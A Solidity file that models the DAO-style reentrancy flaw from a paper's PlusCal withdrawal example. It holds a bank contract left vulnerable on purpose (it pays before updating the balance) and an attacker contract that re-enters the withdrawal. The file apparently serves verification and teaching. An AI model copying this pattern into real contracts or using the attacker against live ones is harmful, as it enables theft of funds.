// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice The bank of the seed model, as Mallory's side sees it.
interface ISeedBank {
    /// @notice The model's `BankWithdraw(amount)`.
    function bankWithdraw(uint256 amount) external;

    /// @notice The amount Mallory withdraws in the model.
    function AMOUNT() external view returns (uint256);
}

/// @notice Mallory's side of the seed model: the bank calls it to hand over the money.
interface ISeedCustomer {
    /// @notice The model's `MallorySendMoney(amount)`.
    function mallorySendMoney(uint256 amount) external;
}

/// @title SeedModel: the faulty withdrawal model of the seed paper, as a contract
/// @notice "Bridging Paxos and Blockchain Consensus", section V, Fig. 5a: the DAO withdrawal
/// as a PlusCal model. The model's global variables live here: `bankBalance` is Mallory's
/// balance at the bank (starts at BALANCE), `malloryBalance` is the money the bank has
/// dispensed to her (starts at 0). There is one customer, Mallory: whoever calls
/// `bankWithdraw` plays her and is called back through `mallorySendMoney`. The numbers are
/// the model's, not ether.
/// @dev VULNERABLE ON PURPOSE (it is the paper's faulty model): the money is dispensed
/// (DispenseAmount, line 15) before the balance is updated (FinishWithdraw, line 17), so a
/// Mallory who calls `bankWithdraw` again from `mallorySendMoney` passes the balance check
/// a second time. The invariant below is the paper's relaxed SafeWithdrawal (Fig. 5a,
/// lines 5-9): it allows one withdrawal of AMOUNT, with the money in flight.
/// Solidity 0.8 differs from the paper's unbounded integers: with the paper's run
/// (attack = 3, AMOUNT = 4, BALANCE = 10) the fourth `bankBalance - amount` while the calls
/// unwind underflows (10 - 4 - 4 - 4 < 0), the checked subtraction reverts, and the whole
/// transaction reverts with it: nothing moves. A Mallory who re-enters once (attack = 1)
/// succeeds: she gets 8 with a balance of 10, and SafeWithdrawal is broken.
/// #invariant (bankBalance == BALANCE && malloryBalance == 0) || (bankBalance == BALANCE && malloryBalance == AMOUNT) || (bankBalance == BALANCE - AMOUNT && malloryBalance == AMOUNT);
contract SeedModel is ISeedBank {
    /// @notice Mallory's balance at the bank when the model starts.
    uint256 public immutable BALANCE;
    /// @notice The amount Mallory asks for.
    uint256 public immutable AMOUNT;
    /// @notice Mallory's balance at the bank (the model's `bankBalance`).
    uint256 public bankBalance;
    /// @notice The money dispensed to Mallory so far (the model's `malloryBalance`).
    uint256 public malloryBalance;

    /// @notice Logged at DispenseAmount, before Mallory is called.
    event Dispensed(address indexed to, uint256 amount, uint256 bankBalance, uint256 malloryBalance);

    /// @param balance the model's BALANCE
    /// @param amount the model's AMOUNT
    constructor(uint256 balance, uint256 amount) {
        BALANCE = balance;
        AMOUNT = amount;
        bankBalance = balance; // line 2: bankBalance = BALANCE
        malloryBalance = 0; // line 3: malloryBalance = 0
    }

    /// @notice The model's `BankWithdraw(amount)` (Fig. 5a, lines 11-18).
    function bankWithdraw(uint256 amount) external override {
        // CheckBalance: check if Mallory has sufficient balance
        if (bankBalance < amount) return;
        // DispenseAmount: dispense Mallory the amount
        malloryBalance += amount;
        emit Dispensed(msg.sender, amount, bankBalance, malloryBalance);
        ISeedCustomer(msg.sender).mallorySendMoney(amount);
        // FinishWithdraw: update Mallory's bankBalance
        bankBalance = bankBalance - amount;
    }
}

/// @title SeedMallory: Mallory of the seed model (the paper's `MallorySendMoney`)
/// @notice Works against SeedModel and SeedModelFixed. `transact` is the model's blockchain
/// process (Fig. 5a, lines 28-30): Mallory withdraws AMOUNT. When the bank hands her the
/// money she withdraws again while `attack > 0`, counting `attack` down ("avoid infinite
/// stack; don't run out of gas"). The paper starts with attack = 3.
contract SeedMallory is ISeedCustomer {
    /// @notice The bank Mallory withdraws from.
    ISeedBank public immutable bank;
    /// @notice Re-entries left (the model's `attack`).
    uint256 public attack;
    /// @notice What Mallory has received, by her own count.
    uint256 public received;

    /// @param bank_ the bank (SeedModel or SeedModelFixed)
    /// @param attack_ the model's initial `attack` (3 in the paper)
    constructor(address bank_, uint256 attack_) {
        bank = ISeedBank(bank_);
        attack = attack_;
    }

    /// @notice Transact: Mallory calls the bank to withdraw AMOUNT.
    function transact() external {
        bank.bankWithdraw(bank.AMOUNT());
    }

    /// @notice The model's `MallorySendMoney(amount)` (Fig. 5a, lines 20-26).
    function mallorySendMoney(uint256 amount) external override {
        require(msg.sender == address(bank), "only the bank pays");
        // Receive
        received += amount;
        if (attack > 0) {
            attack = attack - 1; // avoid infinite stack; don't run out of gas
            bank.bankWithdraw(amount); // cheating! doublecalling withdraw
        }
    }
}
